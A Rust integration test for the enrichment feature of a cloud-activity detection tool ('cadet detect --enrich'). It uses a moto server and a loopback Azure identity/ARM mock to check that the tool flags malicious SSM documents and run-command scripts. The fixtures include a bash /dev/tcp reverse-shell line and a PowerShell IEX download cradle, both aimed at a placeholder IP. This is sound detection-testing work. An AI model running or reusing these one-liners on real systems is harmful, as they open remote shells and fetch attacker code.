//! `cadet detect --enrich`: the functions' enrichers with the default credential chains, run by
//! the real binary. SSM against moto server (GetDocument of a custom document, only for the
//! caller's account and region); ARM against a loopback ARM and App Service identity endpoint
//! (the managed identity branch of the chain). Without `--enrich` nothing is asked.
#![cfg(feature = "enrich")]

mod common;
use common::sample;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

use serde_json::{json, Value};

/// A loopback server for the identity endpoint and ARM: answers by path, records requests.
fn azure() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let log = log.clone();
            std::thread::spawn(move || answer(conn, &log));
        }
    });
    (format!("http://{addr}"), seen)
}

fn answer(conn: TcpStream, log: &Mutex<Vec<String>>) {
    let mut reader = BufReader::new(conn.try_clone().unwrap_or_else(|e| panic!("{e}")));
    let mut conn = conn;
    loop {
        let mut request = String::new();
        if reader.read_line(&mut request).unwrap_or(0) == 0 {
            return;
        }
        let target = request.split_whitespace().nth(1).unwrap_or("").to_string();
        let (mut auth, mut secret, mut len) = (String::new(), String::new(), 0usize);
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                return;
            }
            let l = line.trim_end();
            if l.is_empty() {
                break;
            }
            let lower = l.to_ascii_lowercase();
            if let Some(v) = lower.strip_prefix("content-length:") {
                len = v.trim().parse().unwrap_or(0);
            } else if lower.starts_with("authorization:") {
                auth = l["authorization:".len()..].trim().to_string();
            } else if lower.starts_with("x-identity-header:") {
                secret = l["x-identity-header:".len()..].trim().to_string();
            }
        }
        let mut body = vec![0; len];
        let _ = reader.read_exact(&mut body);
        log.lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(format!("{target} {auth}"));
        let (status, text) = if target.starts_with("/msi/token") {
            if secret == "identity-secret" {
                let exp = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_secs() + 3600)
                    .unwrap_or(0);
                (
                    200,
                    json!({"access_token": "cli-arm-token", "expires_on": exp.to_string(),
                        "resource": "https://management.azure.com", "token_type": "Bearer"})
                    .to_string(),
                )
            } else {
                (401, "{}".to_string())
            }
        } else if auth != "Bearer cli-arm-token" {
            (401, "{}".to_string())
        } else if target.contains("/runCommands/rc-hotfix?") {
            (
                200,
                r#"{"properties":{"source":{"script":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}}}"#
                    .to_string(),
            )
        } else {
            (404, "{}".to_string())
        };
        let reply = format!(
            "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{text}",
            text.len()
        );
        if conn.write_all(reply.as_bytes()).is_err() {
            return;
        }
    }
}

const REVERSE_SHELL_DOC: &str = r#"{"schemaVersion":"2.2","description":"maintenance","mainSteps":[{"action":"aws:runShellScript","name":"run","inputs":{"runCommand":["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}}]}"#;

async fn create_document(endpoint: &str) {
    let cfg = aws_config::defaults(aws_config::BehaviorVersion::latest())
        .region(aws_config::Region::new("us-east-1"))
        .endpoint_url(endpoint)
        .credentials_provider(aws_sdk_ssm::config::Credentials::new(
            "testing", "testing", None, None, "static",
        ))
        .load()
        .await;
    aws_sdk_ssm::Client::new(&cfg)
        .create_document()
        .name("MaintenanceCheck")
        .document_type(aws_sdk_ssm::types::DocumentType::Command)
        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
        .content(REVERSE_SHELL_DOC)
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e:?}"));
}

fn detect(dir: &Path, extra: &[&str], env: &[(&str, &str)]) -> (Vec<Value>, String) {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cadet"));
    cmd.args(["detect", "--state", "memory", "--format", "json", "--all"])
        .args(extra)
        .arg(dir);
    for v in [
        "AWS_PROFILE",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "IDENTITY_ENDPOINT",
        "IDENTITY_HEADER",
        "AZURE_CLIENT_ID",
        "CADET_ARM_ENDPOINT",
    ] {
        cmd.env_remove(v);
    }
    cmd.env("HOME", dir).envs(env.iter().copied());
    let out = cmd.output().unwrap_or_else(|e| panic!("{e}"));
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{stderr}");
    let findings = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    (findings, stderr)
}

fn by_event<'a>(findings: &'a [Value], id: &str) -> &'a Value {
    findings
        .iter()
        .find(|f| f["event_id"] == id)
        .unwrap_or_else(|| panic!("no finding for {id}: {findings:?}"))
}

fn signals(f: &Value) -> Vec<String> {
    f["signals"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s["id"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn detect_enrich_reads_ssm_documents_and_arm_scripts_with_the_default_chains() {
    let moto = common::start_moto();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    rt.block_on(create_document(&moto.url));
    let (azure, seen) = azure();

    let dir = tempdir();
    // moto's caller identity is account 123456789012.
    let mut here = sample("aws/sendcommand-root.json");
    here["detail"]["eventID"] = json!("ssm-here");
    here["detail"]["recipientAccountId"] = json!("123456789012");
    here["detail"]["awsRegion"] = json!("us-east-1");
    here["detail"]["requestParameters"]["documentName"] = json!("MaintenanceCheck");
    let mut elsewhere = here.clone();
    elsewhere["detail"]["eventID"] = json!("ssm-elsewhere");
    elsewhere["detail"]["recipientAccountId"] = json!("111122223333");
    let arm = sample("azure/vm-managed-runcommand-write.json");
    let arm_id = arm["id"].as_str().unwrap_or("").to_string();
    for (name, v) in [("here", &here), ("elsewhere", &elsewhere), ("arm", &arm)] {
        std::fs::write(dir.join(format!("{name}.json")), v.to_string())
            .unwrap_or_else(|e| panic!("{e}"));
    }
    let identity = format!("{azure}/msi/token");
    let env = [
        ("AWS_ENDPOINT_URL", moto.url.as_str()),
        ("AWS_REGION", "us-east-1"),
        ("AWS_ACCESS_KEY_ID", "testing"),
        ("AWS_SECRET_ACCESS_KEY", "testing"),
        ("IDENTITY_ENDPOINT", identity.as_str()),
        ("IDENTITY_HEADER", "identity-secret"),
        ("CADET_ARM_ENDPOINT", azure.as_str()),
    ];

    // Off by default: nothing is asked, nothing is added.
    let (plain, _) = detect(&dir, &[], &env);
    assert!(by_event(&plain, "ssm-here")["command_text"].is_null());
    assert!(seen.lock().unwrap_or_else(|p| p.into_inner()).is_empty());

    let (findings, stderr) = detect(&dir, &["--enrich"], &env);
    assert!(
        stderr.contains("--enrich: SSM for account 123456789012 in us-east-1"),
        "{stderr}"
    );
    assert!(
        stderr.contains("--enrich: ARM with the managed identity"),
        "{stderr}"
    );
    let f = by_event(&findings, "ssm-here");
    assert!(
        signals(f).contains(&"reverse_shell".to_string()),
        "{:?}",
        signals(f)
    );
    assert!(f["command_text"]
        .as_str()
        .is_some_and(|t| t.contains("/dev/tcp/203.0.113.9")));
    // Another account's call: not enriched (its documents are not readable here), and said so.
    assert!(by_event(&findings, "ssm-elsewhere")["command_text"].is_null());
    assert!(
        stderr.contains("1 SSM calls of other accounts or regions were not enriched"),
        "{stderr}"
    );
    let f = by_event(&findings, &arm_id);
    assert!(
        signals(f).contains(&"download_cradle".to_string()),
        "{:?}",
        signals(f)
    );
    let seen = seen.lock().unwrap_or_else(|p| p.into_inner());
    assert!(
        seen.iter()
            .any(|r| r.contains("/runCommands/rc-hotfix?") && r.ends_with("Bearer cli-arm-token")),
        "{seen:?}"
    );
}

fn tempdir() -> common::Tmp {
    common::tmp("detect-enrich")
}
